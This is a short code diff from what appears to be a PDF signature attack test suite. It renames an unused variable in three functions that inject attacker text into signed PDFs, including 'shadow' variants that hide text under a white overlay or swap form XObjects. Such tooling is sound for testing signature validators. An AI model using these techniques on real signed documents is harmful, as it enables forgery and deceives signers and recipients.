@@ -91,7 +91,7 @@ def _text(x: int, y: int, text: bytes, font: str = "/DXEvil", size: int = 14) ->
 def add_content(signed: bytes) -> bytes:
     """A new content stream drawn on page 1."""
     w = _writer(signed)
-    ref, page = _page(w)
+    _ref, page = _page(w)
     _add_font_resource(w, page, "/DXEvil")
     contents = _contents_list(page)
     contents.append(w.add_object(generic.StreamObject(stream_data=_text(90, 700, EVIL))))
@@ -200,7 +200,7 @@ def add_form_field(signed: bytes) -> bytes:
 def shadow_prepare_hide(letter: bytes) -> bytes:
     """The shadow document: the attacker's text drawn under a white overlay the signer sees instead."""
     w = _writer(letter)
-    ref, page = _page(w)
+    _ref, page = _page(w)
     _add_font_resource(w, page, "/DXEvil")
     contents = _contents_list(page)
     contents.append(w.add_object(generic.StreamObject(stream_data=_text(95, 605, EVIL))))
@@ -259,7 +259,7 @@ def shadow_prepare_hide_and_replace(letter: bytes) -> bytes:
     """The shadow document: the page draws form XObject /Ov (empty) through an indirect resource dictionary;
     the attacker's content sits in another, unused XObject of the same file."""
     w = _writer(letter)
-    ref, page = _page(w)
+    _ref, page = _page(w)
     bbox = generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)])
 
     def form(data: bytes) -> generic.IndirectObject:
